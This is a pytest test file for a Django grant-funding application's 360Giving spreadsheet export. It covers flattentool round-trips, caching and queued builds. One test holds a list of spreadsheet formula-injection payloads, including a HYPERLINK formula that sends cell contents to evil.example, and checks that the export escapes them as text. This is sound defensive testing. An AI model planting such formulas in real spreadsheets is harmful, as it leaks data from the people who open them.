"""The 360Giving spreadsheet: opens in a spreadsheet program, unflattens to the same grants, built once."""

from __future__ import annotations

import json
import warnings
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import openpyxl
import pytest
from django.test import Client

from commonweal.accounts.models import Organisation
from commonweal.core import jobs
from commonweal.funding.opendata import giving360, services
from commonweal.places.models import Postcode

from .conftest import GrantSet, make_grant

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _own_cache_folder(settings: Any, tmp_path: Path) -> None:
    settings.VAR_DIR = tmp_path / "var"


def download(client: Client, folder: Path) -> Path:
    response = client.get("/funding/open-data/360giving.xlsx")
    assert response.status_code == 200
    path = folder / "download.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    return path


def unflattened(path: Path) -> dict[str, Any]:
    """The spreadsheet converted back to JSON by flattentool, as 360Giving's tools read it: grants by id."""
    import flattentool

    back = path.with_name(f"{path.stem}-back.json")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the schema's untitled transaction fields
        flattentool.unflatten(
            str(path),
            input_format="xlsx",
            output_name=str(back),
            root_list_path="grants",
            root_id="",
            id_name="id",
            schema=str(giving360.SCHEMA_DIR / giving360.GRANT_SCHEMA),
            convert_titles=True,
        )
    return {grant["id"]: grant for grant in json.loads(back.read_text(encoding="utf-8"))["grants"]}


def headings(path: Path) -> dict[str, list[Any]]:
    book = openpyxl.load_workbook(path, read_only=True)
    return {name: list(next(book[name].iter_rows(max_row=1, values_only=True))) for name in book.sheetnames}


@pytest.fixture
def placed(grant_set: GrantSet) -> GrantSet:
    """The charity and the informal group based in the borough: each recipient carries its ward as location."""
    Postcode.objects.update_or_create(
        postcode="SW19 2HL", defaults={"latitude": 51.41, "longitude": -0.19, "ward": grant_set.wards[0]}
    )
    Postcode.objects.update_or_create(
        postcode="SW16 4AA", defaults={"latitude": 51.41, "longitude": -0.13, "ward": grant_set.wards[1]}
    )
    return grant_set


def test_the_spreadsheet_has_a_grants_sheet_with_every_grant(
    client: Client, grant_set: GrantSet, tmp_path: Path
) -> None:
    book = openpyxl.load_workbook(download(client, tmp_path), read_only=True)
    assert book.sheetnames[0] == "grants"
    rows = list(book["grants"].iter_rows(values_only=True))
    headings = list(rows[0])
    # 360Giving's spreadsheet headings are the schema's titles.
    assert headings[:3] == ["Identifier", "Title", "Description"]
    assert "Amount Awarded" in headings and "Recipient Org:Identifier" in headings
    ids = {row[0] for row in rows[1:]}
    assert ids == {"360G-commonweal-CPF_2026_001", "360G-commonweal-CPF-2026-002", "360G-commonweal-CPF-2026-003"}
    amounts = {row[0]: row[headings.index("Amount Awarded")] for row in rows[1:]}
    assert amounts["360G-commonweal-CPF_2026_001"] == 9500
    assert "Beneficiary Location" in book.sheetnames and "disbursementTransaction" in book.sheetnames


def test_the_spreadsheet_has_the_sheets_and_headings_flattentool_gives_the_same_grants(
    grant_set: GrantSet, tmp_path: Path
) -> None:
    """360Giving's templates as flattentool writes them (titles, rollup), less the sub-sheets of lists that
    only ever have one entry: those are on the grant's own row."""
    import flattentool

    source = tmp_path / "package.json"
    source.write_text(json.dumps(giving360.build_package()), encoding="utf-8")
    theirs = tmp_path / "flattentool.xlsx"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        flattentool.flatten(
            str(source),
            schema=str(giving360.SCHEMA_DIR / giving360.GRANT_SCHEMA),
            output_name=str(theirs),
            output_format="xlsx",
            main_sheet_name="grants",
            root_list_path="grants",
            root_id="",
            id_name="id",
            rollup=True,
            use_titles=True,
            remove_empty_schema_columns=True,
        )
    expected = headings(theirs)
    found = headings(services.xlsx_file())
    assert list(found) == [name for name in expected if name in found]
    assert set(expected) - set(found) == {"Funding Org", "Grant Programme", "Planned Dates", "Recipient Org"}
    assert found == {name: expected[name] for name in found}


def test_the_spreadsheet_unflattens_to_the_same_grants_as_the_json(placed: GrantSet, tmp_path: Path) -> None:
    """Recipients placed in their wards, several beneficiary wards, payments and themes, and match funding
    (an additional field): converted back, every grant is the JSON package's, field for field."""
    original = {grant["id"]: grant for grant in giving360.build_package()["grants"]}
    charity = original["360G-commonweal-CPF_2026_001"]
    assert charity["recipientOrganization"][0]["location"] and len(charity["beneficiaryLocation"]) == 2
    assert len(charity["disbursementTransaction"]) == 2 and len(charity["classifications"]) == 2
    assert charity["matchFundingSecured"] == 3000
    built = services.xlsx_file()
    assert unflattened(built) == original
    assert headings(built)["Rec_Location"] == [
        "Identifier",
        "Recipient Org:Identifier",
        "Recipient Org:Location:Name",
        "Recipient Org:Location:Geographic Code",
        "Recipient Org:Location:Geographic Code Type",
        "Recipient Org:Location:Country Code",
    ]


def test_text_a_spreadsheet_cannot_hold_is_left_out_rather_than_failing_the_build(
    grant_set: GrantSet, officer: Any, tmp_path: Path
) -> None:
    group = Organisation.objects.create(name="Bell\x07 Ringers", slug="bell", kind="informal_group")
    make_grant(round_=grant_set.round, organisation=group, officer=officer, reference="CPF-BELL", amount="80")
    grants = unflattened(services.xlsx_file())
    assert grants["360G-commonweal-CPF-BELL"]["recipientOrganization"][0]["name"] == "Bell Ringers"


HOSTILE_CELLS = {
    # what a group types -> what the spreadsheet shows, as text (core.csvsafe's rule, as in the CSV exports)
    '=HYPERLINK("https://evil.example/?"&A1,"Click for the grant")': "'=HYPERLINK(",
    "+SUM(1,2)": "'+SUM(1,2)",
    "-2+3": "'-2+3",
    "@SUM(1,2)": "'@SUM(1,2)",
    "\t=1+2": "'\t=1+2",
    "\r=1+2": "'\r=1+2",
}


def test_a_title_recipient_or_description_that_looks_like_a_formula_opens_as_text(
    grant_set: GrantSet, officer: Any, tmp_path: Path
) -> None:
    """Issue 10: a group titled '=HYPERLINK(...)' was a live formula in the public spreadsheet."""
    hostile = list(HOSTILE_CELLS)
    for n, text in enumerate(hostile):
        group = Organisation.objects.create(name=text, slug=f"hostile-{n}", kind="informal_group")
        make_grant(
            round_=grant_set.round,
            organisation=group,
            officer=officer,
            reference=f"CPF-EVIL-{n}",
            amount="100",
            title=text if not text.startswith(("\t", "\r")) else None,  # titles lose their surrounding spaces
            summary=f"{text} and more",
        )
    built = services.xlsx_file()
    book = openpyxl.load_workbook(built)  # not read-only: cells keep their data type
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    values = {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
    for shown in HOSTILE_CELLS.values():
        assert any(isinstance(value, str) and value.startswith(shown) for value in values), shown
    grants = unflattened(built)
    evil = grants["360G-commonweal-CPF-EVIL-0"]
    assert evil["title"] == "'" + hostile[0]
    assert evil["recipientOrganization"][0]["name"] == "'" + hostile[0]
    assert grants["360G-commonweal-CPF-EVIL-4"]["recipientOrganization"][0]["name"] == "'\t=1+2"
    assert grants["360G-commonweal-CPF-EVIL-2"]["description"] == "'-2+3 and more"
    assert grants["360G-commonweal-CPF-EVIL-1"]["amountAwarded"] == 100  # numbers stay numbers


def test_repeated_downloads_reuse_the_file_until_a_grant_changes(
    client: Client, grant_set: GrantSet, officer: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from commonweal.funding.opendata import giving360_xlsx

    calls: list[Path] = []
    real = giving360_xlsx.write_spreadsheet

    def counting(records: Any, target: Path, **kwargs: Any) -> int:
        calls.append(target)
        return real(records, target, **kwargs)

    monkeypatch.setattr(giving360_xlsx, "write_spreadsheet", counting)
    first = services.xlsx_file()
    assert services.xlsx_file() == first
    client.get("/funding/open-data/360giving.xlsx")
    assert len(calls) == 1
    group = Organisation.objects.create(name="Late Group", slug="late", kind="informal_group")
    make_grant(round_=grant_set.round, organisation=group, officer=officer, reference="CPF-LATE", amount="50")
    second = services.xlsx_file()
    assert second != first and len(calls) == 2
    # The old file is removed once a newer one is in place.
    assert not first.exists() and second.exists()
    # Paying a tranche changes what is published, so it builds again.
    grant_set.published[2].tranches.create(due_on="2026-05-01", amount="100", status="paid", paid_on="2026-05-01")
    third = services.xlsx_file()
    assert third != second and len(calls) == 3
    # A recipient that renames itself is named afresh: the file is the recipients' as they are now.
    group.name = "Late Group CIO"
    group.save()
    fourth = services.xlsx_file()
    assert fourth != third and len(calls) == 4
    # And so is a grant whose ward is swapped for another (the count of wards stays the same).
    from commonweal.places.models import Ward

    placed = grant_set.published[0].application
    ward = placed.wards.first()
    assert ward is not None
    placed.wards.remove(ward)
    placed.wards.add(Ward.objects.exclude(pk__in=[ward.pk, *placed.wards.values_list("pk", flat=True)]).first())
    assert services.xlsx_file() != fourth and len(calls) == 5


def test_with_nothing_published_the_spreadsheet_still_downloads(client: Client, merton: Any, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(download(client, tmp_path), read_only=True)
    assert book.sheetnames[0] == "grants"
    assert len(list(book["grants"].iter_rows(values_only=True))) <= 1


def test_while_the_worker_builds_it_people_are_told_to_try_again_and_it_is_built_once(
    client: Client, grant_set: GrantSet, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from commonweal.funding import tasks

    asked: list[int] = []
    # A worker that has not run yet: the build is queued but nothing is on disk.
    monkeypatch.setattr(
        tasks, "build_360giving_spreadsheet", SimpleNamespace(enqueue=lambda: asked.append(1) or SimpleNamespace(id=""))
    )
    first = client.get("/funding/open-data/360giving.xlsx")
    second = client.get("/funding/open-data/360giving.xlsx")
    assert first.status_code == second.status_code == 202
    assert first["Retry-After"] == "60"
    assert "The spreadsheet is being prepared" in first.content.decode()
    assert "/funding/open-data/360giving.json" in first.content.decode()
    assert asked == [1]
    # Once the worker has built it, the same address downloads it.
    services.xlsx_file()
    assert client.get("/funding/open-data/360giving.xlsx").status_code == 200


def test_the_service_queues_one_build_for_each_state_of_the_grants(
    grant_set: GrantSet, officer: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """request_spreadsheet holds the rule for every caller, not just the download page."""
    from commonweal.funding import tasks

    asked: list[int] = []
    monkeypatch.setattr(
        tasks, "build_360giving_spreadsheet", SimpleNamespace(enqueue=lambda: asked.append(1) or SimpleNamespace(id=""))
    )
    assert services.request_spreadsheet() == jobs.JobState(jobs.QUEUED)  # being built, not a file yet
    assert services.request_spreadsheet() == jobs.JobState(jobs.QUEUED)  # being built, not a file yet
    assert asked == [1]
    # A new grant is a new state of what is published: it gets a build of its own.
    group = Organisation.objects.create(name="Late Group", slug="late", kind="informal_group")
    make_grant(round_=grant_set.round, organisation=group, officer=officer, reference="CPF-LATE", amount="50")
    assert services.request_spreadsheet() == jobs.JobState(jobs.QUEUED)  # being built, not a file yet
    assert asked == [1, 1]
    built = services.xlsx_file()
    assert services.request_spreadsheet() == built
    assert asked == [1, 1]


def test_the_benchmarks_generated_grants_unflatten_to_the_same_grants_as_the_json(merton: Any, tmp_path: Path) -> None:
    """The grants the funding benchmark publishes (paid in tranches, several wards and themes, charities and
    companies): every sheet converted back by flattentool gives the JSON package, grant for grant."""
    from commonweal.funding.generate import generate_round

    generate_round(applications=2, assessors=1, grants=40, seed=21, wards=merton.wards.all())
    original = {grant["id"]: grant for grant in giving360.build_package()["grants"]}
    assert len(original) == 40
    built = services.xlsx_file()
    sheets = set(headings(built))
    assert {"grants", "disbursementTransaction", "Classifications"} <= sheets
    assert unflattened(built) == original
